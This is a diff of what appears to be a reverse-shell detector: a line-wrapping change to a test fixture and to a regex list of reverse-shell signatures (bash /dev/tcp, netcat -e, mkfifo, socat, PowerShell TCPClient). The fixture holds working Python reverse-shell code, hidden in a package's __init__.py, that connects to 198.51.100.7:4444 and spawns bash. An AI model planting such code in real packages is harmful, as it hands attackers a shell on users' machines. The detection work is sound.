@@ -64,7 +64,8 @@ EXAMPLES = (
         before={"pad/__init__.py": "def pad(a):\n    return a\n"},
         after={
             "pad/__init__.py": "import os, pty, socket\ndef pad(a):\n    s = socket.socket()\n"
-            "    s.connect(('198.51.100.7', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/bash')\n    return a\n"
+            "    s.connect(('198.51.100.7', 4444))\n    os.dup2(s.fileno(), 0)\n"
+            "    pty.spawn('/bin/bash')\n    return a\n"
         },
         expect="call",
         at="pad/__init__.py:6",
@@ -114,7 +115,8 @@ _OWN = ("localhost", "127.", "[::1]", "::1")
 _WORDS = r"""
     \b(?:ba|z|da|k|a)?sh\s+-i\b .{0,60} /dev/(?:tcp|udp)/
     | \bexec\s+\d+<>\s*/dev/tcp/
-    | \b(?:nc|ncat|netcat)(?:\.exe)?\s (?:[^|;&]{0,80}\s)? (?:-\w{0,4}[ec]|--exec|--sh-exec)\s+["']?\S*(?:sh|cmd(?:\.exe)?)\b
+    | \b(?:nc|ncat|netcat)(?:\.exe)?\s (?:[^|;&]{0,80}\s)?
+        (?:-\w{0,4}[ec]|--exec|--sh-exec)\s+["']?\S*(?:sh|cmd(?:\.exe)?)\b
     | \bmkfifo\b .{0,120} \bsh\s+-i\b .{0,60} \b(?:nc|ncat|netcat|telnet|openssl)\b
     | \bsocat\b .{0,120} \bexec:["']?\S*sh\b
     | Net\.Sockets\.TCPClient\b .{0,1500} (?:\biex\b|Invoke-Expression)
